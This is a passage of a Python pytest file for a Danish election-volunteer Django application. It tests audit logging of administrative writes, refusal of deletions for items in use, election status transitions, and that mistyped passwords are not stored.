    (deleted,) = entries("polling_stations.delete_station")
    assert (deleted.object_id, deleted.object_repr) == (pk, "Østre Skole")
    assert deleted.changes["name"] == ["Østre Skole", None]


def test_a_duplicate_name_is_refused_with_the_constraints_message(admin_user):
    station_services.create_area(by=admin_user, name="Nord")
    with pytest.raises(ValidationError) as refused:
        station_services.create_area(by=admin_user, name="Nord")
    assert refused.value.messages == ["An area with this name exists already."]
    assert len(entries("polling_stations.create_area")) == 1


def test_deleting_a_station_or_area_in_use_is_refused_and_not_audited(admin_user):
    area = f.area("Syd")
    station = f.station(area, name="Sydhallen")
    shift = f.shift(station_=station)
    with pytest.raises(Refused) as refused:
        station_services.delete_station(station, by=admin_user)
    assert refused.value.code == "in_use"
    assert "Sydhallen" in refused.value.message
    assert refused.value.names == [str(shift)]
    assert str(shift) in refused.value.message

    with pytest.raises(Refused) as refused:
        station_services.delete_area(area, by=admin_user)
    assert refused.value.code == "in_use"
    assert refused.value.names == ["Sydhallen"]
    assert "Sydhallen" in refused.value.message

    assert PollingStation.objects.filter(pk=station.pk).exists()
    assert Area.objects.filter(pk=area.pk).exists()
    assert not AuditEntry.objects.filter(action__startswith="polling_stations.delete").exists()


def test_election_writes_and_status_changes_are_audited(admin_user):
    e = election_services.create_election(
        by=admin_user,
        name="Kommunalvalg 2029",
        kind="municipal_regional",
        election_date=date(2029, 11, 20),
    )
    assert e.status == Election.Status.DRAFT
    (created,) = entries("elections.create_election")
    assert (created.actor, created.object_id, created.election_id) == (admin_user, e.pk, e.pk)
    assert created.changes["election_date"] == [None, "2029-11-20"]

    election_services.update_election(e, by=admin_user, response_days=5)
    (updated,) = entries("elections.update_election")
    assert (updated.election_id, updated.changes) == (e.pk, {"response_days": [7, 5]})

    election_services.set_election_status(e, "active", by=admin_user)
    election_services.set_election_status(e, "active", by=admin_user)  # already: no entry
    election_services.set_election_status(e, "closed", by=admin_user)
    election_services.set_election_status(e, "active", by=admin_user)  # reopened
    assert [x.changes["status"] for x in entries("elections.set_status")] == [
        ["draft", "active"],
        ["active", "closed"],
        ["closed", "active"],
    ]
    assert {x.election_id for x in entries("elections.set_status")} == {e.pk}


@pytest.mark.parametrize(
    ("path", "refused_step"),
    [
        (["archived"], "archived"),
        (["active", "draft"], "draft"),
        (["active", "archived"], "archived"),
        (["active", "closed", "archived", "active"], "active"),
        (["active", "closed", "draft"], "draft"),
        (["nonsense"], "nonsense"),
    ],
)
def test_bad_status_transitions_are_refused_and_not_audited(admin_user, path, refused_step):
    e = f.election(status=Election.Status.DRAFT)
    *allowed, last = path
    for status in allowed:
        election_services.set_election_status(e, status, by=admin_user)
    before = AuditEntry.objects.count()
    with pytest.raises(Refused) as refused:
        election_services.set_election_status(e, last, by=admin_user)
    assert refused.value.code == "bad_transition"
    assert last == refused_step
    e.refresh_from_db()
    assert e.status == (allowed[-1] if allowed else "draft")
    assert AuditEntry.objects.count() == before


@pytest.mark.parametrize("status", ["active", "closed", "archived"])
def test_only_draft_elections_can_be_deleted(admin_user, status):
    e = f.election(status=status)
    with pytest.raises(Refused) as refused:
        election_services.delete_election(e, by=admin_user)
    assert refused.value.code == "not_draft"
    assert e.name in refused.value.message
    assert Election.objects.filter(pk=e.pk).exists()
    assert entries("elections.delete_election") == []


def test_an_election_activated_since_it_was_loaded_is_not_deleted(admin_user):
    """The draft rule is about the election as it is now, not the caller's copy
    (set_election_status returns a fresh object; the one passed in still says draft)."""
    e = f.election(status=Election.Status.DRAFT)
    election_services.set_election_status(e, "active", by=admin_user)
    assert e.status == Election.Status.DRAFT  # the caller's stale copy
    with pytest.raises(Refused) as refused:
        election_services.delete_election(e, by=admin_user)
    assert refused.value.code == "not_draft"
    assert Election.objects.filter(pk=e.pk, status="active").exists()
    assert entries("elections.delete_election") == []


def test_deleting_a_draft_election_is_audited(admin_user):
    e = f.election(status=Election.Status.DRAFT, name="Prøvevalg")
    pk = e.pk
    election_services.delete_election(e, by=admin_user)
    assert not Election.objects.filter(pk=pk).exists()
    (deleted,) = entries("elections.delete_election")
    assert (deleted.actor, deleted.object_id, deleted.election_id) == (admin_user, pk, pk)
    assert deleted.changes["name"] == ["Prøvevalg", None]


def test_volunteer_writes_are_audited_with_old_and_new_values(admin_user):
    team = f.team("Rødt hold")
    v = volunteer_services.create_volunteer(
        by=admin_user,
        first_name="Karen",
        last_name="Jensen",
        birth_date=date(1980, 5, 17),
        phone="20 12 34 56",
        preferred_channel="sms",
        teams=[team],
    )
    assert v.phone == "+4520123456"
    (created,) = entries("volunteers.create_volunteer")
    assert created.actor == admin_user
    assert created.object_id == v.pk
    # Which fields were given, not their values (the register is not copied).
    assert created.changes == {}
    assert {"phone", "teams", "birth_date"} <= set(created.detail["fields"])
    assert "+4520123456" not in str(created.detail)

    other = f.team("Blåt hold")
    volunteer_services.update_volunteer(
        v, by=admin_user, phone="+46 70 123 45 67", teams=[other], city="Malmö"
    )
    (updated,) = entries("volunteers.update_volunteer")
    assert updated.changes == {
        "phone": ["+4520123456", "+46701234567"],
        "city": ["", "Malmö"],
        "teams": [[team.pk], [other.pk]],
    }
    # The same number written another way is no change.
    volunteer_services.update_volunteer(v, by=admin_user, phone="0046701234567")
    assert len(entries("volunteers.update_volunteer")) == 1


def test_team_writes_are_audited_and_a_team_in_use_cannot_go(admin_user):
    team = volunteer_services.create_team(by=admin_user, name="Partiet")
    volunteer_services.update_team(team, by=admin_user, short_name="P")
    assert entries("volunteers.create_team")[0].changes["name"] == [None, "Partiet"]
    assert entries("volunteers.update_team")[0].changes == {"short_name": ["", "P"]}

    shift = f.shift(team=team)
    with pytest.raises(Refused) as refused:
        volunteer_services.delete_team(team, by=admin_user)
    assert refused.value.code == "in_use"
    assert refused.value.names == [str(shift)]
    assert Team.objects.filter(pk=team.pk).exists()
    assert entries("volunteers.delete_team") == []

    shift.delete()
    volunteer_services.delete_team(team, by=admin_user)
    (deleted,) = entries("volunteers.delete_team")
    assert deleted.changes["name"] == ["Partiet", None]


def test_a_refused_volunteer_write_leaves_no_entry(admin_user):
    with pytest.raises(ValidationError):
        volunteer_services.create_volunteer(
            by=admin_user,
            first_name="Karen",
            last_name="Jensen",
            birth_date=date(1980, 5, 17),
            preferred_channel="sms",
        )
    assert not Volunteer.objects.exists()
    assert entries("volunteers.create_volunteer") == []


def test_a_django_admin_save_is_audited_once_with_the_admin_as_actor(admin_client, admin_user):
    station = f.station(f.area("Nord"), name="Vestre Skole", city="Aarhus")
    url = reverse("admin:polling_stations_pollingstation_change", args=[station.pk])
    response = admin_client.post(
        url,
        {
            "area": station.area_id,
            "name": "Østre Skole",
            "address": station.address,
            "postal_code": station.postal_code,
            "city": station.city,
            "capacity_note": "",
            "manager_contact": "",
            "sort_order": station.sort_order,
            "_save": "Save",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    station.refresh_from_db()
    assert station.name == "Østre Skole"
    # The dry run before the save left nothing behind: one entry.
    (updated,) = entries("polling_stations.update_station")
    assert updated.actor == admin_user
    assert updated.actor_kind == ActorKind.STAFF
    assert updated.object_id == station.pk
    assert updated.changes == {"name": ["Vestre Skole", "Østre Skole"]}


def test_a_django_admin_delete_of_a_station_in_use_is_refused(admin_client):
    station = f.station(name="Sydhallen")
    f.shift(station_=station)
    url = reverse("admin:polling_stations_pollingstation_delete", args=[station.pk])
    response = admin_client.post(url, {"post": "yes"}, follow=True)
    assert response.status_code == 200
    assert PollingStation.objects.filter(pk=station.pk).exists()
    assert not AuditEntry.objects.filter(action="polling_stations.delete_station").exists()


def test_a_password_typed_as_the_email_is_not_kept(fresh_rate_limits):
    """Someone types their password into the email field: the failed sign-in is
    recorded, but not what was typed."""
    from django.contrib.auth import authenticate

    assert authenticate(email="Hemmeligt-Kodeord-1", password="noget") is None
    failed = AuditEntry.objects.get(action="auth.login_failed")
    assert failed.detail == {"attempted": ""}
    assert "Hemmeligt-Kodeord-1" not in json.dumps(model_to_dict(failed), default=str)


def test_the_audit_page_pages_without_counting_the_log(admin_client, admin_user):
    AuditEntry.objects.bulk_create(
        AuditEntry(actor_kind=ActorKind.SYSTEM, action="test.page", object_repr=f"e{i:03d}")
        for i in range(130)
    )
    url = reverse("administration:audit")
    first = admin_client.get(url, {"action": "test."})
    page = first.context["page"]
    assert len(page.object_list) == 100 and page.has_next and not page.has_previous
    assert page.object_list[0].object_repr == "e129"  # newest first
    second = admin_client.get(url, {"action": "test.", "page": "2"}).context["page"]
    assert [e.object_repr for e in second.object_list][-1] == "e000"
    assert len(second.object_list) == 30 and not second.has_next and second.has_previous
    assert "COUNT(" not in " ".join(
        q["sql"] for q in _queries(admin_client, url, {"action": "test."})
    )
    # Nonsense page numbers are the first page, not an error.
    assert admin_client.get(url, {"page": "x"}).status_code == 200


def _queries(client, url, params):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as captured:
        client.get(url, params)
    return captured.captured_queries


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["en", "da"])
def test_a_bulk_invitation_names_each_seat_as_the_seat_itself_does(language):
    """invite() writes the shift's label once for everyone on it: the entries say
    what str(assignment) says, in the language of the moment."""
    from django.utils import translation

    from staffing import services
    from tests import factories

    shift = factories.shift(capacity=3)
    with translation.override(language):
        invited = services.invite(shift, [factories.volunteer() for _ in range(3)], by=None)
        expected = {a.pk: str(a) for a in invited.invited}
    entries = AuditEntry.objects.filter(action="staffing.invite")
    assert {e.object_id: e.object_repr for e in entries} == expected
